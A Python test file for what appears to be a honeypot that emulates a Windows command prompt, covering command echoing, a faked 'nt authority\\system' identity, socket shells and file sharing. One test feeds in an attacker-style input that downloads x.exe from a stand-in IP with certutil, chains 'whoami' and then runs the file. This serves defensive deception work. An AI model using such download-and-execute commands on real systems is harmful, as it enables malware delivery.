"""The command prompt as a room uses it: orders in the right order, and the same dialogue as the POSIX shell's."""

from __future__ import annotations

import subprocess
import sys

from eudaemon.events.catalogue import CommandEntered
from eudaemon.protocols._base import Answered, Fetch, Keep, Order, Saw, Send
from eudaemon.protocols._command_prompt import CapturedPrompt, CommandPrompt, PipedPrompt, files_of, left_in
from eudaemon.testing.script import START_S, visit
from eudaemon.world.outside import Downloaded
from eudaemon.world.windows.machine import windows_of


def said(orders: list[Order]) -> bytes:
    return b"".join(order.data for order in orders if isinstance(order, Send))


def test_a_command_is_stated_and_then_answered() -> None:
    prompt = CommandPrompt(visit())
    assert list(prompt.enter(b"whoami", START_S)) == [
        Saw(CommandEntered("whoami")), Send(b"nt authority\\system\r\n")]  # fmt: skip
    assert next(iter(prompt.enter(b"wget -h", START_S))) == Saw(CommandEntered("wget -h", ("wget",)))
    assert prompt.prompt == b"C:\\Windows\\System32>"


def test_a_download_holds_up_what_comes_behind_it() -> None:
    prompt = CommandPrompt(visit(), "nt service\\mssqlserver")
    orders = list(prompt.enter(b"certutil -urlcache -f http://198.51.100.9/x.exe x.exe&whoami", START_S))
    assert isinstance(orders[-1], Fetch)
    assert prompt.busy
    assert list(prompt.enter(b"x.exe", START_S)) == []
    after = list(prompt.go_on(Answered(START_S, Downloaded("http://198.51.100.9/x.exe", "ok", head=b"MZ", size=2))))
    assert b"nt service\\mssqlserver\r\n" in said(after)
    assert Saw(CommandEntered("x.exe")) in after
    assert not prompt.busy


def test_a_shell_on_a_socket_repeats_lines_and_shows_its_prompt() -> None:
    prompt = PipedPrompt(visit())
    assert prompt.greeting.startswith(b"Microsoft Windows [Version ")
    orders = said(list(prompt.enter(b"cd \\", START_S)))
    assert orders == b"cd \\\r\n\r\nC:\\>"
    assert said(list(prompt.enter(b"exit", START_S))) == b"exit\r\n"
    assert prompt.over


def test_output_can_be_taken_and_files_shared() -> None:
    given = visit()
    files = files_of(given)
    first = CapturedPrompt(given, files=files)
    assert [
        order for order in first.enter(b"echo " + b"A" * 70 + b">a.txt& ver", START_S) if isinstance(order, Send)
    ] == []
    assert windows_of(given.host).banner.encode() in first.printed
    first.release()
    second = CommandPrompt(given, files=files)
    assert said(list(second.enter(b"type a.txt", START_S))) == b"A" * 70 + b"\r\n"
    assert list(left_in(files, given)) == [Keep(b"A" * 70 + b"\r\n", "upload", "C:\\Windows\\System32\\a.txt")]


def test_the_engine_comes_with_the_first_line() -> None:
    code = (
        "import sys; from eudaemon.protocols._command_prompt import CommandPrompt;"
        "from eudaemon.world.windows import ENGINE; from eudaemon.testing.script import visit;"
        "prompt = CommandPrompt(visit());"
        "print(*(name in sys.modules for name in ENGINE)); list(prompt.enter(b'ver', 0.0));"
        "print(*(name in sys.modules for name in ENGINE)); list(prompt.enter(b'powershell 1', 0.0));"
        "print(*(name in sys.modules for name in ENGINE))"
    )
    env = {"PYTHONPATH": ":".join(sys.path)}
    said = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=env, check=True).stdout
    assert said.splitlines() == ["False False", "True False", "True True"]
